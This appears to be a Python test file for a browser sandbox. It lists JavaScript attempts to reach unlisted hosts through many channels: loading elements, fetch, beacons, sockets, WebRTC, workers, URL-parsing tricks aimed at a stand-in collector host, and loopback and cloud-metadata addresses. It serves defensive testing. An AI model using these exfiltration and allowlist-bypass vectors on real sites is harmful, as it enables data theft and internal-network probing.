# SPDX-License-Identifier: GPL-3.0-or-later
"""Ways onto the wire: to hosts that nobody listed, to bare addresses, and by kinds of load that only carry out."""

from typing import Final

from tests.journeys.escapes.attempts import Attempt, Group

# An element that loads, by what it is and the field that names the address.
ELEMENTS: Final = (
    *(("img", "src"), ("script", "src"), ("iframe", "src"), ("embed", "src"), ("audio", "src"), ("video", "src")),
    *(("video", "poster"), ("object", "data"), ("frame", "src"), ("track", "src"), ("source", "src")),
)
LINKS: Final = ("stylesheet", "preload", "prefetch", "modulepreload", "preconnect", "dns-prefetch", "prerender", "icon",
                "manifest", "search", "alternate stylesheet", "compression-dictionary")  # fmt: skip
BARE: Final = ("http://127.0.0.1:${tcp}", "http://localhost:${tcp}", "http://[::1]:${tcp}", "http://2130706433:${tcp}",
               "http://0x7f.1:${tcp}", "http://0.0.0.0:${tcp}", "http://[::ffff:127.0.0.1]:${tcp}",
               "https://127.0.0.1:${tcp}", "http://printer:${tcp}", "http://169.254.169.254")  # fmt: skip
TRICKS: Final = ("https://adilet.zan.kz@collector.example.net", "https:\\\\\\\\collector.example.net",
                 "//collector.example.net", "https://collector.example.net.", "https://%63ollector.example.net",
                 "https://adilet.zan.kz.example.net", "https://ⓒollector.example.net",
                 "https://adilet.zan.kz:8443")  # fmt: skip
WORKER: Final = "new Worker(URL.createObjectURL(new Blob([`{}`], {{ type: 'text/javascript' }})))"
STYLE: Final = "put('style', {{ textContent: `{}` }}, document.head)"
GETS: Final = "fetch(`{}/canary/{}`, {{ mode: 'no-cors' }}).catch(() => 0); put('img', {{ src: `{}/canary/{}` }})"

NETWORK: Final = Group(
    "network",
    (
        *(Attempt(f"{name} {field}", f"put('{name}', {{ {field}: away('{name}-{field}') }})")
          for name, field in ELEMENTS),
        *(Attempt(f"link {rel}", f"put('link', {{ rel: '{rel}', as: 'script', href: away('link-{rel[:7]}') }},"
                  " document.head)") for rel in LINKS),
        *(Attempt(f"at {bare}", GETS.format(bare, "bare", bare, "bare")) for bare in BARE),
        *(Attempt(f"at {trick}", GETS.format(trick, f"trick-{number}", trick, f"trick-{number}"))
          for number, trick in enumerate(TRICKS)),
        Attempt("srcset", "put('img', { srcset: `${away('srcset')} 1x, ${away('srcset2')} 2x` })"),
        Attempt("a module", "return await import(away('module')) && 'a module'"),
        Attempt("a style that imports", STYLE.format("@import url('${away('import')}')")),
        Attempt("a style's picture", STYLE.format("body { background: url('${away('background')}') }")),
        Attempt("a style's font", STYLE.format("@font-face { font-family: x; src: url('${away('font')}') } "
                                               "body { font-family: x }")),
        Attempt("a picture in a drawing", "put('div', { innerHTML: `<svg><image href='${away('svg')}'/></svg>` })"),
        Attempt("fetch", "fetch(away('fetch'), { mode: 'no-cors' })"),
        Attempt("fetch that posts", "fetch(away('fetch-post'), { mode: 'no-cors', method: 'POST', body: 'x' })"),
        Attempt("fetch that stays alive", "fetch(away('alive'), { mode: 'no-cors', keepalive: true })"),
        Attempt("fetch later", "fetchLater(away('later'), { activateAfter: 0 })"),
        Attempt("an old request", "const it = new XMLHttpRequest(); it.open('GET', away('xhr')); it.send()"),
        Attempt("an old request that blocks", "const it = new XMLHttpRequest(); it.open('GET', away('sync'),"
                " false); it.send()"),
        Attempt("events", "new EventSource(away('events'))"),
        Attempt("a beacon", "return navigator.sendBeacon(away('beacon'), 'x') && ''"),
        Attempt("a socket", "new WebSocket(away('socket').replace('https', 'wss'))"),
        Attempt("a plain socket", "new WebSocket(away('socket').replace('https', 'ws'))"),
        Attempt("a socket here", "new WebSocket(`ws://127.0.0.1:${tcp}/canary`)"),
        Attempt("a stream of sockets", "new WebSocketStream(away('stream').replace('https', 'wss'))"),
        Attempt("a transport", "new WebTransport(`https://127.0.0.1:${udp}/canary`); new"
                " WebTransport(away('transport'))"),
        Attempt("STUN here", "await ice(`stun:127.0.0.1:${udp}`)"),
        Attempt("STUN by name", "await ice(`stun:${stun}:3478`)"),
        Attempt("TURN over TCP", "await ice(`turn:127.0.0.1:${tcp}?transport=tcp`, { username: 'a', credential: 'b'"
                " })"),
        Attempt("TURN over TLS", "await ice(`turns:${stun}:443?transport=tcp`, { username: 'a', credential: 'b' })"),
        Attempt("two peers", "const [one, two] = [new RTCPeerConnection(), new RTCPeerConnection()];"
                " one.createDataChannel('x'); one.onicecandidate = ({ candidate }) => candidate &&"
                " two.addIceCandidate(candidate);"
                " await one.setLocalDescription(); await two.setRemoteDescription(one.localDescription)"),
        Attempt("a worker that fetches", WORKER.format("fetch('${away('worker')}', { mode: 'no-cors' })")),
        Attempt("a worker that imports", WORKER.format("importScripts('${away('imported')}')")),
        Attempt("a worker with a socket", WORKER.format("new WebSocket('${away('ws').replace('https', 'wss')}')")),
        Attempt("a worker from elsewhere", "new Worker(away('worker.js'))"),
        Attempt("a shared worker", "return new SharedWorker('/demo/worker.js') && 'a worker'"),
        Attempt("a service worker", "return await navigator.serviceWorker.register('/demo/worker.js') && 'a worker'"),
        Attempt("a worklet", "await CSS.paintWorklet.addModule(away('paint'))"),
        Attempt("a redirect in a frame", "put('iframe', { src: '/demo/away-with-all?1' })"),
        Attempt("a redirect as a picture", "put('img', { src: '/demo/away-with-all?2' })"),
        Attempt("a redirect by fetch", "await fetch('/demo/away-with-all?3', { mode: 'no-cors' })"),
        Attempt("a refresh in a frame", "put('iframe', { src: '/demo/refresh' })"),
        Attempt("a page that reports", "put('iframe', { src: '/demo/reports' })"),
        Attempt("rules to speculate", "put('script', { type: 'speculationrules', textContent: JSON.stringify({"
                " prefetch:"
                " [{ source: 'list', urls: [away('speculated')] }], prerender: [{ source: 'list', urls:"
                " ['/canary/pre'] }] }) },"
                " document.head)"),
        Attempt("a ping of a link", "const link = put('a', { href: '#x', ping: `${away('ping')} ${own('ping')}` });"
                " link.click()"),
        Attempt("a beacon to the site", "navigator.sendBeacon(own('beacon'), 'x')"),
        Attempt("a socket to the site", "new WebSocket(`wss://${location.host}/canary/socket`)"),
        Attempt("a prefetch from the site", "put('link', { rel: 'prefetch', href: own('prefetch') }, document.head)"),
        *(Attempt(f"{method} to the site", f"await fetch(own('{method}'), {{ method: '{method}', body: 'x' }})")
          for method in ("POST", "PUT", "DELETE", "PATCH", "PROPFIND")),
        Attempt("a name in the system's list", "put('link', { rel: 'dns-prefetch', href: '//secret.example.net' },"
                " document.head)"),
    ),
    together=True,
)  # fmt: skip
